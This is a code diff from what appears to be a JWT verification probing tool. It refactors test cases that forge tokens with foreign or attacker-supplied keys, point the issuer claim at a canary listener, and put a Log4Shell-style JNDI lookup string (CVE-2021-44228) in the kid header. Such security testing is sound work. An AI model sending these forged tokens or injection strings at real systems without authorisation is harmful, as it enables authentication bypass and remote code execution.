@@ -13,12 +13,10 @@ const (
 // foreignKeyCases are signed, but not with a key of the issuer.
 func foreignKeyCases() []Case {
 	signed := func(alg string, change func(object) object, sign signer) func(*kit) (string, error) {
-		return func(k *kit) (string, error) {
-			return k.forged(change(k.header.with("alg", quote(alg))).String(), k.payload, sign)
-		}
+		return headed(func(o object) object { return change(o.with("alg", quote(alg))) }, sign)
 	}
 	same := func(o object) object { return o }
-	otherKID := func(o object) object { return o.with("kid", `"m2m-probe"`) }
+	otherKID := func(o object) object { return o.with("kid", quote(ownKID)) }
 	noKID := func(o object) object { return o.without("kid", "x5t", "x5t#S256") }
 	order := encode256(orderP256())
 	return forgeries(ForeignKey, Critical, fixForeign,
@@ -50,10 +48,17 @@ func namedKeyCases() []Case {
 			return k.forged(change(k, k.header.with("alg", `"RS256"`)).String(), k.payload, ownKey)
 		}
 	}
-	address := func(name, member string, tail string, scheme string) func(*kit) (string, error) {
+	address := func(name, member, tail, scheme string) func(*kit) (string, error) {
 		return header(func(k *kit, o object) object {
 			return o.with("kid", quote(ownKID)).with(member, quote(k.canary.lure(scheme, name)+tail))
 		})
+	}
+	issuer := func(name, scheme string) func(*kit) (string, error) {
+		return func(k *kit) (string, error) {
+			header := k.header.with("alg", `"RS256"`).with("kid", quote(ownKID)).String()
+			claims := k.claims.with("iss", quote(k.canary.lure(scheme, name))).String()
+			return k.forged(header, []byte(claims), ownKey)
+		}
 	}
 	return forgeries(NamedKey, Critical, fixNamed,
 		row{"jwk", "our key in jwk", header(func(k *kit, o object) object {
@@ -73,16 +78,8 @@ func namedKeyCases() []Case {
 		row{"kid-jndi", "the kid is a JNDI look-up at our listener (CVE-2021-44228)", header(func(k *kit, o object) object {
 			return o.with("kid", quote("${jndi:"+k.canary.lure("ldap", "kid-jndi")+"}"))
 		})},
-		row{"iss-url", "iss names our listener, which has discovery and keys", func(k *kit) (string, error) {
-			header := k.header.with("alg", `"RS256"`).with("kid", quote(ownKID)).String()
-			claims := k.claims.with("iss", quote(k.canary.lure("http", "iss-url"))).String()
-			return k.forged(header, []byte(claims), ownKey)
-		}},
-		row{"iss-url-https", "iss names our listener with https", func(k *kit) (string, error) {
-			header := k.header.with("alg", `"RS256"`).with("kid", quote(ownKID)).String()
-			claims := k.claims.with("iss", quote(k.canary.lure("https", "iss-url-https"))).String()
-			return k.forged(header, []byte(claims), ownKey)
-		}},
+		row{"iss-url", "iss names our listener, which has discovery and keys", issuer("iss-url", "http")},
+		row{"iss-url-https", "iss names our listener with https", issuer("iss-url-https", "https")},
 	)
 }
 
